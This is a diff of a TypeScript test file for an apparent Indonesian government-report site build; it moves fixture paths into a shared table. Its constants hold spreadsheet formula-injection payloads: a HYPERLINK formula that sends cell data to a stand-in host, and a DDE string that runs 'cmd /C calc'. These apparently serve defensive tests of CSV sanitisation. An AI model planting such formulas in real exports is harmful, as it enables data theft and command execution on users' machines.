@@ -9,21 +9,18 @@
  */
 import { cpSync, existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
-import { join, resolve } from 'node:path';
+import { dirname, join, resolve } from 'node:path';
 import { gunzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { barisCsv } from '../helpers/csv.ts';
 import { KASUS_BERMUSUHAN } from '../unit/rusak/kasus.ts';
+import { JALUR_CONTOH } from '../unit/publikasi/bantuan.ts';
 import { halamanHtml, semuaBerkas } from './alat.ts';
 import { bangun } from './bangun.ts';
 
 const FIXTURE = resolve('test/fixtures/konten-contoh');
-const JALUR = {
-  instansi: 'content/instansi/dinas-contoh/instansi.json',
-  lkjip: 'content/instansi/dinas-contoh/2022/lkjip.json',
-  kota: 'content/wilayah/kota-contoh.json',
-  narasi: 'content/instansi/dinas-contoh/2022/narasi',
-};
+// the fixture's own paths (one table for unit and site tests); narratives as their folder
+const JALUR = { ...JALUR_CONTOH, narasi: dirname(JALUR_CONTOH.narasi) };
 const MUATAN = [...new Set(KASUS_BERMUSUHAN.flatMap((k) => (k.muatan ? [k.muatan] : [])))];
 const RUMUS = '=HYPERLINK("https://contoh.invalid/?d="&A1;"klik")';
 const RUMUS_SATUAN = "@SUM(1+1)*cmd|' /C calc'!A0";
